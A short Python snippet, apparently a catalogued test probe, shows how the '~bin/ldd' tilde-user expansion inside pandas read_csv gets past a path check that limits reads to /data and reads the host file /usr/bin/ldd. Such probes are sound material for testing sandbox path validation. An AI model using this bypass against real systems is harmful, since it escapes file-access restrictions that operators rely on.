# source: pandas io.common.stringify_path -> os.path.expanduser ("~user" home expansion)
# family: path literal that the OS/library rewrites after the check (tilde-user expansion)
# goal: read host file /usr/bin/ldd (bin's home is /bin) outside /data
import pandas as pd
df = pd.read_csv("~bin/ldd", sep="\x01", header=None, nrows=8)
for line in df[0]:
    print(line)
